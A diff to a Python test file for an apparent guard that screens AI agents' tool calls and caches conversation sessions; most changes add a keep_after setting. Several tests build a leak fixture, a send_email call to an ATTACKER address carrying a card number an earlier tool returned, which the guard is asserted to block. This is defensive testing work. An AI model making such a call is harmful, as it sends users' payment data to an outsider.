@@ -69,7 +69,7 @@ def drive(guard: Guard, messages: list[dict[str, Any]], last: dict[str, Any]) ->
 def test_a_conversations_requests_resume_and_decide_as_read_anew():
     messages = conversation(6)
     leak = call("x", "send_email", {"to": ATTACKER, "body": f"card {CARD}"})
-    kept, fresh = Guard(), Guard(kept=SessionCache(0))
+    kept, fresh = Guard(kept=SessionCache(keep_after=0)), Guard(kept=SessionCache(0))
     assert drive(kept, messages, leak) == drive(fresh, messages, leak)
     assert drive(fresh, messages, leak)[-1] == [True]  # the card an early tool gave, refused
     assert kept.kept.hits == 7  # every request after the first resumed
@@ -77,7 +77,7 @@ def test_a_conversations_requests_resume_and_decide_as_read_anew():
 
 
 def test_a_request_that_changed_an_earlier_message_is_read_anew():
-    guard = Guard()
+    guard = Guard(kept=SessionCache(keep_after=0))
     messages = conversation(2)
     drive(guard, messages, call("y", "http_get", {"url": "https://weather.example/x"}))
     hits = guard.kept.hits
@@ -93,7 +93,7 @@ def test_a_request_that_changed_an_earlier_message_is_read_anew():
 
 
 def test_a_changed_reply_is_not_kept():
-    guard = Guard()
+    guard = Guard(kept=SessionCache(keep_after=0))
     messages = conversation(1)
     drive(guard, messages[:3], messages[3])  # the look-ups before: their session is kept
     hits = guard.kept.hits
@@ -116,7 +116,7 @@ def test_a_changed_reply_is_not_kept():
 
 
 def test_the_cache_keeps_its_bounds_and_the_environment_is_part_of_the_key():
-    cache = SessionCache(conversations=2, chars=1_000)
+    cache = SessionCache(conversations=2, chars=1_000, keep_after=0)
     guard = Guard(kept=cache)
     for i in range(3):
         cache.keep(bytes([i]) * 32, guard.session(), 100)
@@ -131,7 +131,7 @@ def test_the_cache_keeps_its_bounds_and_the_environment_is_part_of_the_key():
 
 
 def test_a_responses_conversation_resumes_too():
-    guard, fresh = Guard(), Guard(kept=SessionCache(0))
+    guard, fresh = Guard(kept=SessionCache(keep_after=0)), Guard(kept=SessionCache(0))
     items: list[dict[str, Any]] = [{"role": "user", "content": "Check my last order."}]
     steps = [
         {"type": "function_call", "call_id": "o", "name": "get_order", "arguments": "{}"},
@@ -166,7 +166,7 @@ def test_a_responses_conversation_resumes_too():
 
 
 def test_a_message_pydantic_cannot_write_is_screened_and_never_kept():
-    guard = Guard()
+    guard = Guard(kept=SessionCache(keep_after=0))
     deep = json.loads("[" * 900 + "]" * 900)
     messages = [*conversation(1), {"role": "user", "content": "and mail it", "x": deep}]
     leak = call("x", "send_email", {"to": ATTACKER, "body": f"card {CARD}"})
@@ -176,3 +176,9 @@ def test_a_message_pydantic_cannot_write_is_screened_and_never_kept():
         )
         assert [d.blocked for d in decisions] == [True]
     assert len(guard.kept) == 0
+
+
+def test_a_session_that_cost_little_is_not_kept_and_nothing_is_hashed():
+    guard = Guard(kept=SessionCache(keep_after=60.0))
+    drive(guard, conversation(3), call("y", "http_get", {"url": "https://weather.example/x"}))
+    assert len(guard.kept) == 0 and guard.kept.hits == 0
